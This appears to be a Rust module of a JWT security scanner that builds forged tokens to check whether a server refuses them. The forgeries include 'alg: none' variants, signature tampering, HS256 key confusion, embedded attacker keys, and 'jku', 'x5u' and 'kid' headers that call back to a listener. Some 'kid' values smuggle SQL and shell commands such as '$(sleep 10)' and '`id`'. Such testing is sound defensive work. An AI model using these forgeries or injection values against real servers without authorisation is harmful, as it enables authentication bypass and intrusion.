//! Attacks on a signed token from outside: algorithms, signatures, keys that a token brings along,
//! and its text.

use aws_lc_rs::hmac;
use serde_json::{Map, Value};

use super::row::{Expected, Finding, Row, Work, fire, no_token};
use super::secrets::SECRETS;
use super::shots::{Places, Shot, Shots, flipped, listed};
use crate::attack::attacker::Attacker;
use crate::attack::edit::Edit;
use crate::attack::forge::{Form, Token, jwt};
use crate::attack::key::{Key, mac};
use crate::attack::listener::Listener;
use crate::attack::moment::now;
use crate::attack::public;
use crate::attack::text::b64;
use crate::error::{Error, Result};
use crate::record::CaseOutcome;

/// Most of these do not need the server's key. A row signs with it so that only one check can
/// refuse the token, and reports if the key is not known.
pub(super) fn rows() -> Vec<Row> {
    use Expected::{Refused, RefusedHere};
    let row = |id, what, expected, shots| Row { id, what, expected, work: Work::Shots(shots) };
    vec![
        row("4a", "`alg` is `none`, without a signature", Refused, |a| unsigned(a, "none")),
        row("4b", "`alg` is `None`", Refused, |a| unsigned(a, "None")),
        row("4c", "`alg` is `NONE`", Refused, |a| unsigned(a, "NONE")),
        row("4d", "`alg` is `nOnE`", Refused, |a| unsigned(a, "nOnE")),
        row("4e", "`alg` missing, empty or no string", Refused, no_algorithm),
        row("5a", "an empty signature", Refused, |a| signature(a, |_| Vec::new())),
        row("5b", "a signature without its last byte", Refused, |a| {
            signature(a, |raw| raw[..raw.len() - 1].to_vec())
        }),
        row("5c", "a signature without its last four characters", Refused, |a| {
            listed(vec![text(cut(&signed(a)?.text, 4)?)])
        }),
        row("5d", "a signature with a byte behind it", Refused, |a| {
            signature(a, |raw| [raw, &[0]].concat())
        }),
        row("5e", "a signature of zeros", Refused, |a| signature(a, |raw| vec![0; raw.len()])),
        row("5f", "a signature with one bit flipped, in every byte", Refused, flipped_bits),
        row("5g", "B's claims under A's signature", Refused, spliced),
        row("6a", "HS256 under an empty secret", Refused, |a| hs256(a, &[b""])),
        row("6b", "HS256 under secrets that are in tutorials", Refused, |a| {
            hs256(a, &SECRETS.iter().map(|secret| secret.as_bytes()).collect::<Vec<_>>())
        }),
        Row {
            id: "7a",
            what: "HS256 under the server's public key, in all its forms",
            expected: Refused,
            work: Work::Steps(public_key),
        },
        row(
            "8a",
            "other algorithms of the same key, rightly signed",
            RefusedHere,
            other_signatures,
        ),
        row("8b", "other names of algorithms over the right signature", RefusedHere, other_names),
        row("9a", "a key of the attacker's in `jwk`, HS256", Refused, |a| {
            embedded(a, &Key::secret().map_err(|e| e.to_string())?)
        }),
        row("9b", "a key of the attacker's in `jwk`, ES256", Refused, |a| {
            embedded(a, &Key::ecdsa().map_err(|e| e.to_string())?)
        }),
        row("9c", "a key of the attacker's in `jwk`, EdDSA", Refused, |a| {
            embedded(a, &Key::ed25519().map_err(|e| e.to_string())?)
        }),
        Row {
            id: "10a",
            what: "`jku`, `x5u` and `kid` that lead to the attacker",
            expected: Expected::Words("refused, and nobody comes"),
            work: Work::Steps(addresses),
        },
        row("11a", "a certificate of the attacker's in `x5c`", Refused, certificate),
        row("12h", "`kid` that is a path, under what is there", Refused, |a| {
            let kids = ["../../../../dev/null", "/dev/null", "/invalid_path", "file:///dev/null"];
            kid(a, &kids, b"")
        }),
        row("12i", "`kid` that is a query or a command", Refused, |a| {
            let kids =
                ["x' UNION SELECT '1';--", "' OR '1'='1", "|sleep 10", "$(sleep 10)", "`id`", "*"];
            kid(a, &kids, b"1")
        }),
        row("23a", "`=` behind the token", RefusedHere, |a| {
            listed(vec![text(format!("{}=", signed(a)?.text))])
        }),
        row("23b", "`?` behind the token", RefusedHere, |a| {
            listed(vec![text(format!("{}?", signed(a)?.text))])
        }),
        row("23c", "bits left over behind the signature", RefusedHere, left_over),
        row("23d", "the other alphabet of base64, `+` and `/`", RefusedHere, other_alphabet),
        row("23e", "padding and spaces inside, rightly signed", RefusedHere, padded),
        row("24a", "one part", Refused, |a| parts(a, |h, _, _| h.into())),
        row("24b", "two parts", Refused, |a| parts(a, |h, p, _| format!("{h}.{p}"))),
        row("24c", "four parts", Refused, |a| parts(a, |h, p, s| format!("{h}.{p}.{s}.{s}"))),
        row("24d", "five parts, as a JWE has", Refused, |a| {
            parts(a, |h, p, s| format!("{h}..{p}.{s}.{s}"))
        }),
        row("24e", "a dot before the token", Refused, |a| {
            parts(a, |h, p, s| format!(".{h}.{p}.{s}"))
        }),
        row("24f", "a dot behind the token", Refused, |a| {
            parts(a, |h, p, s| format!("{h}.{p}.{s}."))
        }),
        row("24g", "the JSON form of the token", Refused, |a| {
            parts(a, |h, p, s| {
                format!(r#"{{"protected":"{h}","payload":"{p}","signature":"{s}"}}"#)
            })
        }),
    ]
}

pub(super) fn text(token: impl AsRef<[u8]>) -> Shot {
    Shot::Credential(token.as_ref().to_vec())
}

/// The text without its last bytes.
fn cut(text: &str, bytes: usize) -> std::result::Result<&str, String> {
    let end = text.len().checked_sub(bytes);
    end.and_then(|end| text.get(..end)).ok_or_else(|| "it is no ASCII".into())
}

/// The credential, where it is a signed token.
pub(super) fn signed<'a>(attacker: &'a Attacker<'_>) -> std::result::Result<&'a Token, String> {
    let token = attacker.token.as_ref().filter(|_| attacker.form == Form::Jwt);
    token.ok_or_else(|| match attacker.form {
        Form::Jwe | Form::Paseto => format!("the credential is {}", attacker.form.name()),
        form => no_token(form),
    })
}

/// The same with other members of the header.
pub(super) fn header_with(token: &Token, members: &[(&str, Value)]) -> String {
    let mut header = token.header.clone();
    for (name, value) in members {
        header.insert((*name).into(), value.clone());
    }
    Value::Object(header).to_string()
}

pub(super) fn claims(token: &Token) -> Vec<u8> {
    Edit::None.apply(&token.claims, now())
}

fn unsigned(attacker: &Attacker<'_>, algorithm: &str) -> Shots {
    let token = signed(attacker)?;
    let header = header_with(token, &[("alg", algorithm.into())]);
    let bare = Value::Object(Map::from_iter([("alg".to_string(), algorithm.into())])).to_string();
    let message = |header: &str| format!("{}.{}", b64(header), b64(claims(token)));
    let (_, signature) = token.signed();
    listed(vec![
        text(format!("{}.", message(&header))),
        text(message(&header)),
        text(format!("{}.{signature}", message(&header))),
        text(format!("{}.", message(&bare))),
    ])
}

fn no_algorithm(attacker: &Attacker<'_>) -> Shots {
    let token = signed(attacker)?;
    let (_, signature) = token.signed();
    let edits = [
        Edit::Without("alg"),
        Edit::Set("alg", r#""""#),
        Edit::Set("alg", "null"),
        Edit::Set("alg", r#"["{alg}"]"#),
    ];
    let shot = |edit: Edit, signature: &str| {
        let header = edit.apply(&token.header, now());
        let message = format!("{}.{}", b64(header), b64(claims(token)));
        let signature = match attacker.key {
            Some(key) if !signature.is_empty() => b64(key.sign(message.as_bytes())),
            _ => signature.into(),
        };
        text(format!("{message}.{signature}"))
    };
    listed(edits.into_iter().flat_map(|edit| [shot(edit, ""), shot(edit, signature)]).collect())
}

/// The token with another signature.
fn signature(attacker: &Attacker<'_>, made: fn(&[u8]) -> Vec<u8>) -> Shots {
    let (message, raw) = raw_signature(signed(attacker)?)?;
    listed(vec![text(format!("{message}.{}", b64(made(&raw))))])
}

pub(super) fn raw_signature(token: &Token) -> std::result::Result<(&str, Vec<u8>), String> {
    use base64::Engine as _;
    let (message, signature) = token.signed();
    let raw = base64::engine::general_purpose::URL_SAFE_NO_PAD.decode(signature);
    match raw {
        Ok(raw) if !raw.is_empty() => Ok((message, raw)),
        _ => Err("its signature is no base64url".into()),
    }
}

fn flipped_bits(attacker: &Attacker<'_>) -> Shots {
    let (message, raw) = raw_signature(signed(attacker)?)?;
    let message = message.to_owned();
    Places::new(0..raw.len(), attacker.a.credential().len())
        .shots(move |at| text(format!("{message}.{}", b64(flipped(&raw, at)))))
}

fn spliced(attacker: &Attacker<'_>) -> Shots {
    let (_, signature) = signed(attacker)?.signed();
    let other = attacker.b.text();
    let (message, _) = other.rsplit_once('.').ok_or("B's credential is no token")?;
    listed(vec![text(format!("{message}.{signature}"))])
}

fn hs256(attacker: &Attacker<'_>, secrets: &[&[u8]]) -> Shots {
    let token = signed(attacker)?;
    let header = header_with(token, &[("alg", "HS256".into())]);
    let shot = |secret: &&[u8]| {
        text(jwt(&header, claims(token), |message| mac(hmac::HMAC_SHA256, secret, message)))
    };
    listed(secrets.iter().map(shot).collect())
}

fn public_key(attacker: &mut Attacker<'_>) -> Result<Finding> {
    let token = match signed(attacker) {
        Ok(token) => token,
        Err(why) => return Ok(Finding::not_applicable(why)),
    };
    if token.algorithm().starts_with("HS") {
        return Ok(Finding::not_applicable("its key has no public half"));
    }
    let shots = public_forms(attacker)
        .and_then(|forms| hs256(attacker, &forms.iter().map(Vec::as_slice).collect::<Vec<_>>()));
    match shots {
        Ok(volley) => fire(attacker, Expected::Refused, volley),
        Err(why) => Ok(Finding::not_applicable(why)),
    }
}

/// The texts of the server's public key, wherever it is known from.
fn public_forms(attacker: &Attacker<'_>) -> std::result::Result<Vec<Vec<u8>>, String> {
    if let Some(key) = attacker.key {
        return Ok(key.public_forms());
    }
    let given = attacker.target.token.as_ref();
    if let Some(text) = given.and_then(|keys| keys.public_key.as_deref()) {
        return public::forms(text).map_err(|why| format!("public_key: {why}"));
    }
    let address = given.and_then(|keys| keys.jwks.as_deref()).ok_or(
        "needs the server's public key: name it in the target file (`public_key` or `jwks`)",
    )?;
    let text = attacker.fetched(address).map_err(|why| format!("jwks: {why}"))?;
    public::forms(&text).map_err(|why| format!("jwks: {why}"))
}

fn other_signatures(attacker: &Attacker<'_>) -> Shots {
    let token = signed(attacker)?;
    let key = attacker.key.ok_or("needs the server's key")?;
    let shots: Vec<_> = ["HS384", "HS512", "RS384", "RS512", "PS256"]
        .into_iter()
        .filter_map(|algorithm| {
            let header = header_with(token, &[("alg", algorithm.into())]);
            let message = format!("{}.{}", b64(header), b64(claims(token)));
            let signature = key.sign_as(algorithm, message.as_bytes())?;
            Some(text(format!("{message}.{}", b64(signature))))
        })
        .collect();
    if shots.is_empty() {
        return Err("there is one algorithm for its key".into());
    }
    listed(shots)
}

fn other_names(attacker: &Attacker<'_>) -> Shots {
    let token = signed(attacker)?;
    let key = attacker.key.ok_or("needs the server's key")?;
    let names = [
        "none", "hs256", "HS256", "HS384", "HS512", "RS256", "RS384", "PS256", "ES256", "ES256K",
        "ES384", "EdDSA", "Ed25519", "HS256 ", "dir",
    ];
    let shot = |name: &str| {
        let header = header_with(token, &[("alg", name.into())]);
        text(jwt(header, claims(token), |message| key.sign(message)))
    };
    listed(names.into_iter().filter(|name| *name != token.algorithm()).map(shot).collect())
}

/// A token under this key, which it brings along.
fn brought(token: &Token, key: &Key, more: &[(&str, Value)]) -> String {
    let mut members = vec![("alg", key.algorithm().into())];
    members.extend_from_slice(more);
    jwt(header_with(token, &members), claims(token), |message| key.sign(message))
}

fn embedded(attacker: &Attacker<'_>, key: &Key) -> Shots {
    let token = signed(attacker)?;
    let jwk: Value = serde_json::from_str(&key.jwk()).map_err(|e| e.to_string())?;
    let mut without_kid = token.clone();
    without_kid.header.remove("kid");
    let mut named = jwk.clone();
    named["kid"] = token.header.get("kid").cloned().unwrap_or_default();
    listed(vec![
        text(brought(token, key, &[("jwk", jwk.clone())])),
        text(brought(token, key, &[("jwk", named)])),
        text(brought(&without_kid, key, &[("jwk", jwk)])),
    ])
}

fn addresses(attacker: &mut Attacker<'_>) -> Result<Finding> {
    let token = match signed(attacker) {
        Ok(token) => token.clone(),
        Err(why) => return Ok(Finding::not_applicable(why)),
    };
    let listener = Listener::new()?;
    let keys = [Key::secret()?, Key::ecdsa()?, Key::ed25519()?];
    let mut shots = Vec::new();
    // A stranger's server may ignore what the token names, and verify it with its own key.
    let own = attacker.key.filter(|_| attacker.ours());
    for key in keys.iter().chain(own) {
        for (name, path) in [("jku", "jwks.json"), ("x5u", "chain.pem"), ("kid", "key")] {
            shots.push(text(brought(&token, key, &[(name, listener.url(path).into())])));
        }
    }
    let mut finding = match listed(shots) {
        Ok(volley) => fire(attacker, Expected::Refused, volley)?,
        Err(why) => Finding::not_applicable(why),
    };
    let came = listener.connections();
    if came > 0 {
        finding.outcome = CaseOutcome::Accepted;
        finding.found.push_str(&format!("; it came to the attacker {came} times"));
    }
    Ok(finding)
}

fn certificate(attacker: &Attacker<'_>) -> Shots {
    use base64::Engine as _;
    let token = signed(attacker)?;
    let made = || -> Result<(Key, String)> {
        let fail = |e: rcgen::Error| Error::Bug(format!("no certificate could be made: {e}"));
        let pair = rcgen::KeyPair::generate().map_err(fail)?;
        let names = vec!["localhost".to_string()];
        let certificate = rcgen::CertificateParams::new(names)
            .and_then(|params| params.self_signed(&pair))
            .map_err(fail)?;
        let text = base64::engine::general_purpose::STANDARD.encode(certificate.der());
        Ok((Key::ecdsa_of(pair.serialized_der())?, text))
    };
    let (key, chain) = made().map_err(|e| e.to_string())?;
    let chain = Value::Array(vec![chain.into()]);
    listed(vec![text(brought(token, &key, &[("x5c", chain)]))])
}

/// The token with these key names, under the server's key where it is known and under this secret.
fn kid(attacker: &Attacker<'_>, kids: &[&str], secret: &[u8]) -> Shots {
    let token = signed(attacker)?;
    let mut shots = Vec::new();
    for kid in kids {
        let named = [("kid", Value::from(*kid))];
        let header = header_with(token, &[&named[..], &[("alg", "HS256".into())]].concat());
        let sign = |message: &[u8]| mac(hmac::HMAC_SHA256, secret, message);
        shots.push(text(jwt(header, claims(token), sign)));
        if let Some(key) = attacker.key.filter(|_| attacker.ours()) {
            let header = header_with(token, &named);
            shots.push(text(jwt(header, claims(token), |message| key.sign(message))));
        }
    }
    listed(shots)
}

const ALPHABET: &str = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";

/// Other texts of the same signature: bits behind its last byte that must be zero.
fn left_over(attacker: &Attacker<'_>) -> Shots {
    let token = signed(attacker)?;
    let (_, signature) = token.signed();
    let spare = match signature.len() % 4 {
        2 => 16,
        3 => 4,
        _ => return Err("its signature leaves no bits over".into()),
    };
    let rest = cut(&token.text, 1)?;
    let last = &token.text[rest.len()..];
    let at = ALPHABET.find(last).ok_or("its signature is no base64url")?;
    let others = (1..spare).filter_map(|bits| ALPHABET.get(at + bits..=at + bits));
    listed(others.map(|last| text(format!("{rest}{last}"))).collect())
}

fn other_alphabet(attacker: &Attacker<'_>) -> Shots {
    let token = signed(attacker)?;
    let (message, signature) = token.signed();
    if signature.contains(['-', '_']) {
        let signature = signature.replace('-', "+").replace('_', "/");
        return listed(vec![text(format!("{message}.{signature}"))]);
    }
    let key = attacker.key.ok_or("its signature has neither `-` nor `_`")?;
    // Bytes that base64 writes with the two characters in which its alphabets differ.
    let header = Edit::Set("typ", r#""~~~???~~~???""#).apply(&token.header, now());
    let message = format!("{}.{}", b64(header), b64(claims(token)));
    let message = message.replace('-', "+").replace('_', "/");
    let signature = b64(key.sign(message.as_bytes())).replace('-', "+").replace('_', "/");
    listed(vec![text(format!("{message}.{signature}"))])
}

fn padded(attacker: &Attacker<'_>) -> Shots {
    let token = signed(attacker)?;
    let key = attacker.key.ok_or("needs the server's key")?;
    let (message, _) = token.signed();
    let (header, payload) = message.split_once('.').ok_or("it has no payload")?;
    let resigned = |message: String| {
        let signature = b64(key.sign(message.as_bytes()));
        text(format!("{message}.{signature}"))
    };
    listed(vec![
        resigned(format!("{header}=.{payload}")),
        resigned(format!("{header}.{payload}=")),
        resigned(format!("{header}.{payload}==")),
        resigned(format!("{header}.{payload} ")),
        resigned(format!("{header}.{payload}?")),
        resigned(format!("{header}.{payload}A")),
    ])
}

fn parts(attacker: &Attacker<'_>, made: fn(&str, &str, &str) -> String) -> Shots {
    let token = signed(attacker)?;
    let mut parts = token.text.split('.');
    let (Some(h), Some(p), Some(s)) = (parts.next(), parts.next(), parts.next()) else {
        return Err("it has not three parts".into());
    };
    listed(vec![text(made(h, p, s))])
}
